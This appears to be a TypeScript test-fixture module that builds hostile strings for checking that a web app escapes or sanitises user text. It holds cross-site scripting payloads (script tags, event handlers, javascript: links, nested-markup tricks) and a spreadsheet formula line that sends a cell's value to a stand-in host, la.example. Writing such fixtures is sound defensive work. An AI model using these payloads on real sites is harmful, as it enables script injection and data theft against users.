/** What somebody types into a field of words who wants a script to run at the reader. Begins with its name, to be found again. */
export const hostile = (name: string): string =>
  `[${name}]"><script>alert(1)</script><img src=x onerror=alert(1)>' --></title></textarea></style><svg/onload=alert(1)>`;

/** For fields of few letters. */
export const hostileShort = (name: string): string => `[${name}]"><img src=x onerror=a()>`;

/** For a text with marks: nothing of it may run, and the words between stay. */
export const hostileBody = (name: string): string =>
  [
    `<p onclick="alert(1)" style="position:fixed" id="noi-dung" class="site-head">[${name}] chữ còn lại</p>`,
    '<script>alert(1)</script><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
    '<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a><a href="//la.example">c</a><a href="/x&#x09;y">d</a>',
    '<img src=x onerror=alert(1)><img src="https://la.example/dem.gif"><iframe src="//la.example"></iframe>',
    '<form action="https://la.example"><input name=q><button formaction="javascript:alert(1)">Gửi</button></form>',
    '<base href="https://la.example"><meta http-equiv="refresh" content="0;url=//la.example"><link rel=stylesheet href=//la.example>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
    '<figure><figcaption onmouseover=alert(1)>chú thích</figcaption></figure><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ].join('\n');

/** What a spreadsheet would run. */
export const formula = '=HYPERLINK("https://la.example?x="&A1;"xem")';
